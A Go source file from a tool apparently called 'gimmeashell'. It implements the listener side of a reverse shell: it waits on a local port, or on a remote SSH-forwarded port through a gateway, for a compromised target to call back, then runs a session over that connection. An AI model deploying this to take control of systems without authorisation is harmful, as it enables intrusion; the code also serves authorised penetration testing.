package core

import (
	"context"
	"errors"
	"fmt"
	"time"

	"gimmeashell/internal/executor"
	"gimmeashell/internal/transport"
	"gimmeashell/tunnel"
)

// ListenMode waits for one reverse shell and runs a session over it.
// With Gateway set, the listener lives on an SSH server (ssh -R style)
// so targets that can only reach the gateway can still call back.
type ListenMode struct {
	Runner
	Address     string // local "host:port"
	IdleTimeout time.Duration

	Gateway           *tunnel.SSHConfig
	RemoteBindAddress string
	RemotePort        int
}

// Run listens, accepts the first callback and hands the session to the
// capability.  Cancelling ctx before a callback arrives returns nil.
func (m *ListenMode) Run(ctx context.Context) error {
	acc, err := m.listen(ctx)
	if err != nil {
		return err
	}
	defer acc.Close()

	m.Logger.Info("waiting for reverse shell on %s", acc.Addr())

	conn, err := acc.Accept(ctx)
	if err != nil {
		if errors.Is(err, context.Canceled) || errors.Is(err, context.DeadlineExceeded) {
			m.Logger.Warn("interrupted while waiting for a connection")
			return nil
		}
		return err
	}

	m.Logger.Info("connection from %s", conn.RemoteAddr())
	return m.run(ctx, executor.NewConnDrain(conn, m.IdleTimeout))
}

func (m *ListenMode) listen(ctx context.Context) (transport.Acceptor, error) {
	if m.Gateway == nil {
		acc, err := transport.ListenTCP(m.Address)
		if err != nil {
			return nil, err
		}
		return acc, nil
	}
	m.Logger.Verbose("requesting remote forward on %s@%s:%d",
		m.Gateway.User, m.Gateway.Host, m.Gateway.Port)
	acc, err := transport.ListenSSH(ctx, m.Gateway, m.RemoteBindAddress, m.RemotePort, m.Logger)
	if err != nil {
		return nil, fmt.Errorf("reverse tunnel: %w", err)
	}
	return acc, nil
}
